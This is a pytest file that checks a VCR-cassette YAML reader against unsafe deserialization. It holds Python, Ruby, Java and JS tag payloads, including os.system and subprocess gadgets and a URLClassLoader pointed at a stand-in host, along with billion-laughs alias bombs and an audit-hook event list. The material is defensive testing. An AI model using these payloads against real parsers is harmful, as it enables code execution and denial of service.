"""YAML that would make a loader run something: only events are read, so that there is nothing to run."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

ATTACKS = {
    "os.system": "!!python/object/apply:os.system ['touch pwned']",
    "os.system, by its whole tag": "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch pwned']",
    "subprocess": "!!python/object/apply:subprocess.Popen [[touch, pwned]]",
    "keywords": "!!python/object/apply:subprocess.check_output {args: [[touch, pwned]], kwds: {shell: true}}",
    "new": "!!python/object/new:os.system ['touch pwned']",
    "new with state": (
        "!!python/object/new:type {args: [z, !!python/tuple [], {extend: !!python/name:exec }],"
        " listitems: \"__import__('os').system('touch pwned')\"}"
    ),
    "object": "!!python/object:os.stat_result {}",
    "name": "!!python/name:os.system ''",
    "module": "!!python/module:antigravity ''",
    "long": "!!python/long 1",
    "bytes": "!!python/bytes aGk=",
    "set": "!!set {a, b}",
    "timestamp": "!!timestamp 2026-01-01",
    "Ruby's object": "!ruby/object:Gem::Installer {i: x}",
    "Ruby's chain": (
        "!ruby/object:Gem::Requirement {requirements: !ruby/object:Gem::Package::TarReader "
        "{io: !ruby/object:Net::BufferedIO {io: !ruby/object:Gem::Package::TarReader::Entry {read: 0, header: abc}}}}"
    ),
    "Ruby's hash": "!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection {'foo; system(1)': bar}",
    "Ruby's struct": "!ruby/struct:Etc::Passwd {name: root}",
    "Ruby's regexp": "!ruby/regexp /(a+)+$/",
    "Ruby's class": "!ruby/class 'Kernel'",
    "Ruby's exception": "!ruby/exception:StandardError {message: x}",
    "Java's": '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://h.example/"]]]]',
    "JavaScript's": "!!js/function 'function(){ require(\"fs\") }'",
    "PHP's": "!php/object 'O:8:\"stdClass\":0:{}'",
    "merge": "{<<: {a: b}, c: d}",
    "merge of lists": "{<<: [{a: b}, {c: d}], e: f}",
    "value key": "{=: a, b: c}",
    "a tag of its own": "!<tag:example.com,2026:x> {a: b}",
    "a tag without a name": "! a",
    "binary": "!binary aGk=",
}
"""What is put in each place of an interaction."""

PLACES = (
    "- {{request: {}, response: {{status: 402}}}}",
    "- {{request: {{method: GET, uri: /v1/x, headers: {}}}, response: {{status: 402}}}}",
    "- {{request: {{method: GET, uri: /v1/x, headers: {{a: {}}}}}, response: {{status: 402}}}}",
    "- {{request: {{method: GET, uri: /v1/x, body: {{string: {}}}}}, response: {{status: 402}}}}",
    "- {{request: {{method: GET, uri: {}}}, response: {{status: 402}}}}",
    "- {{request: {{? {} : x, method: GET, uri: /v1/x}}, response: {{status: 402}}}}",
    "- {{request: {{method: GET, uri: /v1/x}}, response: {{status: {}}}}}",
    "- {}",
)

SPY = """
import io, json, os, sys
from reqlog.readers.vcr import read
from reqlog.readers.yaml_stream import sequence_items

DOCUMENTS = json.load(sys.stdin)
list(read(io.BytesIO(b"- {request: {method: GET, uri: /v1/x}, response: {status: 200, body: {string: '{}'}}}"), "warm"))
seen, kinds = set(), set()

def spy(event, arguments):
    if event.split(".")[0] in {"os", "subprocess", "exec", "compile", "import", "open", "socket", "ctypes", "pickle",
                               "marshal", "code", "function", "object", "shutil", "tempfile", "glob", "urllib"}:
        seen.add(event)

def look_at(value):
    kinds.add(type(value).__name__)
    parts = (*value.keys(), *value.values()) if isinstance(value, dict) else value if isinstance(value, list) else ()
    for part in parts:
        look_at(part)

sys.addaudithook(spy)
for document in DOCUMENTS:
    list(read(io.BytesIO(document.encode()), "f"))
    for item in sequence_items(io.BytesIO(document.encode()), ("http_interactions",)):
        look_at(item)
print(json.dumps([sorted(seen), sorted(kinds)]))
"""


def spied(documents: list[str], folder: Path) -> list[list[str]]:
    """Return the events that Python told of while the documents were read, and the kinds of what they became."""
    done = subprocess.run(
        [sys.executable, "-c", SPY],
        input=json.dumps(documents),
        capture_output=True,
        encoding="utf-8",
        cwd=folder,
        check=True,
    )
    events, kinds = json.loads(done.stdout)
    return [events, kinds]


def test_nothing_is_run_imported_opened_or_made(tmp_path) -> None:
    documents = [place.format(attack) for attack in ATTACKS.values() for place in PLACES]
    events, kinds = spied(documents, tmp_path)
    assert events == []
    assert kinds == ["NoneType", "bytes", "dict", "list", "str"]
    assert list(tmp_path.iterdir()) == []


def test_the_spy_sees_what_a_loader_would_run(tmp_path) -> None:
    loading = "import yaml\nfor document in DOCUMENTS:\n    yaml.unsafe_load(document)"
    load = SPY.replace("for document in DOCUMENTS:", loading)
    done = subprocess.run(
        [sys.executable, "-c", load],
        input=json.dumps([f"- {ATTACKS['os.system']}"]),
        capture_output=True,
        encoding="utf-8",
        cwd=tmp_path,
        check=True,
    )
    assert "os.system" in json.loads(done.stdout)[0]
    assert [path.name for path in tmp_path.iterdir()] == ["pwned"]


@pytest.mark.parametrize("name", ATTACKS)
def test_a_tag_is_a_mark_on_plain_data(run, tmp_path, name) -> None:
    (tmp_path / "cassette.yml").write_text("\n".join(place.format(ATTACKS[name]) for place in PLACES))
    done = run("list", "--json", "--format", "vcr", "--file", tmp_path / "cassette.yml")
    found = json.loads(done.stdout)
    assert done.returncode == 0
    assert len(found) >= 3
    assert {request["method"] for request in found} == {"GET"}
    assert not list((tmp_path / "home").rglob("pwned"))


def test_harmless_tags_read_as_the_data_they_mark(run) -> None:
    cassette = """
http_interactions:
- request:
    method: !ruby/symbol get
    uri: !ruby/object:URI https://api.stripe.com/v1/x
    headers: !ruby/hash:Net::HTTPHeader {Accept: !ruby/array:X ['a']}
    body: !ruby/object:VCR::Body {string: !binary "Zm9vPWJhcg=="}
  response: !ruby/struct:VCR::Response
    status: {code: !!int 402}
    headers: !!python/tuple [[X-A, !!python/unicode b]]
    body: {string: !!python/unicode '{}'}
"""
    (request,) = json.loads(run("list", "--json", "--format", "vcr", "--file", "-", input=cassette).stdout)
    told = {name: request[name] for name in ("method", "host", "path", "status", "request_headers", "request_body")}
    assert told == {
        "method": "GET",
        "host": "api.stripe.com",
        "path": "/v1/x",
        "status": 402,
        "request_headers": {"accept": "a"},
        "request_body": "foo=bar",
    }
    assert (request["response_headers"], request["response_body"]) == ({"x-a": "b"}, "{}")


LEVELS = range(1, 30)
LAUGHS = {
    "of lists": "".join(f"    a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]\n" for n in LEVELS),
    "of maps": "".join(f"    a{n}: &a{n} {{{','.join(f'k{k}: *a{n - 1}' for k in range(10))}}}\n" for n in LEVELS),
    "of merge keys": "".join(f"    a{n}: &a{n} {{<<: [{','.join([f'*a{n - 1}'] * 10)}]}}\n" for n in LEVELS),
    "in keys": "".join(f"    ? &a{n} [{','.join([f'*a{n - 1}'] * 10)}]\n    : x\n" for n in LEVELS),
    "of texts": f"    b: &b '{'x' * 100_000}'\n    c: [{','.join(['*b'] * 1000)}]\n",
    "of headers": f"    b: &b '{'x' * 100_000}'\n    headers: {{{','.join(f'h{n}: *b' for n in range(1000))}}}\n",
}


@pytest.mark.parametrize("name", LAUGHS)
def test_laughs_are_a_reject_and_the_rest_goes_on(run, name) -> None:
    head = "http_interactions:\n- request:\n    method: GET\n    uri: /v1/x\n    a0: &a0 lol\n"
    after = "- {request: {method: GET, uri: /v1/after}, response: {status: 402}}\n"
    cassette = f"{head}{LAUGHS[name]}  response: {{status: 200}}\n{after}"
    done = run("import", "-v", "-", input=cassette)
    assert (done.returncode, "<stdin>:1: larger than 16 MiB" in done.stderr, "1 imported" in done.stderr) == (
        0,
        True,
        True,
    )


@pytest.mark.parametrize(
    ("yaml", "reason"),
    [
        ("- &a [*a]", "an alias of what is not there"),
        ("- &a {b: *a}", "an alias of what is not there"),
        ("- &a {? *a : b}", "an alias of what is not there"),
        ("- &a {<<: *a}", "an alias of what is not there"),
        ("- [&a [&b [*a, *b]]]", "an alias of what is not there"),
        ("- *nobody", "an alias of what is not there"),
    ],
)
def test_what_holds_itself_is_a_reject_and_the_rest_goes_on(run, yaml, reason) -> None:
    after = "- {request: {method: GET, uri: /v1/after}, response: {status: 402}}\n"
    done = run("import", "-v", "--format", "vcr", "-", input=f"{yaml}\n{after}")
    assert (done.returncode, f"<stdin>:1: {reason}" in done.stderr, "1 imported" in done.stderr) == (0, True, True)
